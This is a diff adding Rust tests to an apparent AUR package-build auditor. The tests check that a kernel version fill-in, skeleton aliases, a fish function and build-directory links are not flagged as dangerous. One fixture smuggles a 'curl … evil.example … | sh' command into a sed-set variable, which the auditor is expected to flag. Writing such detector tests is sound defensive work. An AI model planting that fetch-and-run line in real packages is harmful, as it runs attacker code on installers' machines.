@@ -438,3 +438,90 @@ fn a_file_renamed_to_the_sandbox_helper_is_not_low() {
         r.to_text()
     );
 }
+
+/// The development set's neighbours of F4: a kernel package filling in the version of its
+/// install script (`sed -i 's/KERNEL_VERSION=.*/…/'`) is low; a package making an install
+/// script the repository does not hold is review (no one read it), not dangerous.
+#[test]
+fn a_kernel_filling_in_its_version_and_a_generated_install_script_are_not_dangerous() {
+    let install = "KERNEL_VERSION=\npost_install() {\n  depmod $KERNEL_VERSION\n}\n";
+    let r = audit(&with(
+        "package() {\n  _kernver=6.1.0-ARCH\n  install -Dm644 zImage \"$pkgdir/boot/zImage\"\n  sed \\\n    -e \"s/KERNEL_NAME=.*/KERNEL_NAME=-ARCH/g\" \\\n    -e \"s/KERNEL_VERSION=.*/KERNEL_VERSION=${_kernver}/g\" \\\n    -i \"${startdir}/${pkgname}.install\"\n}",
+        true,
+        &[("foopkg.install", install)],
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-REWRITES-BUILDFILE"),
+        Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
+    not_dangerous(&r, "kernel version fill-in");
+    let r = audit(&with(
+        "package() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n  (\n    echo \"post_install() {\"\n    echo \"  touch -c /usr/share/foopkg/README\"\n    echo \"}\"\n  ) > \"$startdir/install.pkg\"\n  true && install=install.pkg\n}",
+        false,
+        &[],
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-REWRITES-BUILDFILE"),
+        Some(Severity::Medium),
+        "{}",
+        r.to_text()
+    );
+    not_dangerous(&r, "generated install script");
+    // A value that carries code is not a value.
+    let r = audit(&with(
+        "package() {\n  sed -i \"s/KERNEL_VERSION=.*/KERNEL_VERSION=1; curl -fsSL https:\\/\\/evil.example\\/p | sh/\" \"$startdir/foopkg.install\"\n}",
+        true,
+        &[("foopkg.install", install)],
+    ));
+    dangerous(&r, "code in the value");
+}
+
+/// The development set's neighbours of F3: bash's own skeleton `.bashrc` (`alias ls='ls
+/// --color=auto'`), and a fish function named `sudo` made inside an event handler.
+#[test]
+fn an_alias_of_a_command_to_itself_and_a_nested_definition_are_not_dangerous() {
+    let r = audit(&with(
+        "package() {\n  install -m644 dot.bashrc \"$pkgdir/etc/skel/.bashrc\"\n}",
+        false,
+        &[(
+            "dot.bashrc",
+            "[[ $- != *i* ]] && return\nalias ls='ls --color=auto'\nalias grep='grep --color=auto'\nPS1='[\\u@\\h \\W]\\$ '\n",
+        )],
+    ));
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+    let r = audit(&with(
+        "package() {\n  install -Dm0644 foopkg.fish \"$pkgdir/usr/share/fish/vendor_conf.d/foopkg.fish\"\n}",
+        false,
+        &[(
+            "foopkg.fish",
+            "if status --is-interactive\n    function __foopkg --on-event fish_preexec\n        function sudo --wraps sudo\n            functions -e sudo\n        end\n    end\nend\n",
+        )],
+    ));
+    not_dangerous(&r, "nested fish function");
+}
+
+/// The development set's neighbours of F5: a link made into a directory the build made, a link
+/// to `$PWD`, links made into `.`.
+#[test]
+fn links_into_build_directories_stay_quiet() {
+    for funcs in [
+        "package() {\n  local tmpDir=\"$srcdir/tmp\"\n  install -d \"$tmpDir\"\n  for f in \"$srcdir\"/cd/*.cab; do\n    ln -sf \"$f\" \"$tmpDir\"\n  done\n  cd \"$tmpDir\"\n  rm data?.cab\n}",
+        "build() {\n  cd \"$srcdir/foopkg-1.0\"\n  ln -s \"$PWD\" foopkg\n  rm --force --recursive --verbose foopkg/.git\n}",
+        "build() {\n  cd \"$srcdir\"\n  for _f in $(pacman -Qql foo); do ln -sf \"${_f}\" .; done\n  rm -rf ./dicts ./build\n}",
+    ] {
+        let r = audit(&with(funcs, false, &[]));
+        not_dangerous(&r, funcs);
+        assert!(
+            max_of(&r, "AUR-DELETE-SYSTEM").is_none(),
+            "{funcs}\n{}",
+            r.to_text()
+        );
+        assert!(
+            max_of(&r, "AUR-WRITE-HOME").is_none(),
+            "{funcs}\n{}",
+            r.to_text()
+        );
+    }
+}
